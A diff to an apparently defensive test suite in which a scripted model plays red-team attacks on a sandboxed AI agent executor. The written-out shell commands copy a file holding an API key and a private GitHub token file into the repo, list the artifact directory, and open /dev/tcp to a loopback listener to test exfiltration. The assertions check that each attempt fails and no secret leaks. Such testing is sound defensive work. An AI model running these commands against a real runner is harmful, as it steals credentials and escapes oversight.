@@ -15,7 +15,7 @@ import { editGreet, finishFixed, toolCall } from "./support/transcript.js";
 
 // Each test plays both jobs (work, then publish on a fresh clone) with sandboxed commands: tens of
 // seconds on a loaded machine.
-vi.setConfig({ testTimeout: 120_000 });
+vi.setConfig({ testTimeout: 120_000, hookTimeout: 60_000 });
 
 // The red team's attacks on the executor (docs/security.md), each played by a scripted model against the
 // committed bundle (the work job, a real process whose environment holds every secret below) and the
@@ -143,18 +143,19 @@ describe("attack: reading the executor's environment through /proc", () => {
     writeFileSync(path.join(runnerTemp, "step.sh"), `curl -H "x-api-key: ${ANTHROPIC_KEY}"\n`, { mode: 0o644 });
     const privateFile = path.join(repo.root, "executor-only.txt");
     writeFileSync(privateFile, `${GITHUB_TOKEN}\n`, { mode: 0o600 });
-    const artifact = path.join(repo.root, "artifact");
+    // Where the workflow template puts the artifact: inside RUNNER_TEMP.
+    const artifact = path.join(runnerTemp, "conductor-work");
     const steal = `cat ${runnerTemp}/step.sh > src/temp.txt 2>&1; ls ${runnerTemp} >> src/temp.txt 2>&1; cat ${privateFile} > src/private.txt 2>&1; echo done >> src/private.txt; ls -A ${artifact} > src/artifact.txt 2>&1; echo listed >> src/artifact.txt`;
     const { work, publish, api } = await attack(
       [toolCall("run_command", { command: steal }), editGreet(), finishFixed()],
       testBrief(),
-      { RUNNER_TEMP: runnerTemp },
+      { RUNNER_TEMP: runnerTemp, "INPUT_ARTIFACT-PATH": artifact },
     );
 
     expect(pushed("src/private.txt")).toMatch(/Permission denied[\s\S]*done/);
     expect(pushed("src/temp.txt")).toContain("No such file");
-    // The artifact directory the work job writes is covered too: the command sees it empty.
-    expect(pushed("src/artifact.txt")).toBe("listed\n");
+    // The artifact directory inside it is covered with it.
+    expect(pushed("src/artifact.txt")).toMatch(/No such file[\s\S]*listed$/);
     expectNoSecret(everything(work, publish, api));
   });
 });
@@ -223,7 +224,10 @@ describe("attack: the finish report carries the key", () => {
 });
 
 describe("attack: a command sends what it learned out over the network", () => {
-  test("with executor.network: none a command has no interface to send from", async () => {
+  test.each([
+    ["none", false],
+    ["open", true],
+  ] as const)("with executor.network: %s a command reaches the runner's loopback: %s", async (network, reaches) => {
     // A listener on the runner's loopback that counts who reaches it.
     let reached = 0;
     const listener = createServer((socket) => {
@@ -232,16 +236,21 @@ describe("attack: a command sends what it learned out over the network", () => {
     });
     await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
     const { port } = listener.address() as AddressInfo;
-    const probe = `(echo hi > /dev/tcp/127.0.0.1/${port}) > src/net.txt 2>&1; echo exit=$? >> src/net.txt; tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' ' >> src/net.txt`;
+    const probe = `(echo hi > /dev/tcp/127.0.0.1/${port}) > src/net.txt 2>&1; echo exit=$? >> src/net.txt`;
     const { api: used } = await attack(
       [toolCall("run_command", { command: probe }), editGreet(), finishFixed()],
-      testBrief({ network: "none" }),
+      testBrief({ network }),
     );
+    listener.close();
     expect(posted(used).status).toBe("done");
     const net = pushed("src/net.txt");
-    expect(net).toMatch(/Network is unreachable|Connection refused/);
-    expect(net).toMatch(/exit=1\nlo\n?$/);
-    expect(reached).toBe(0);
-    listener.close();
+    if (reaches) {
+      expect(net).toBe("exit=0");
+      expect(reached).toBe(1);
+    } else {
+      expect(net).toContain("Network is unreachable");
+      expect(net).toMatch(/exit=1$/);
+      expect(reached).toBe(0);
+    }
   });
 });
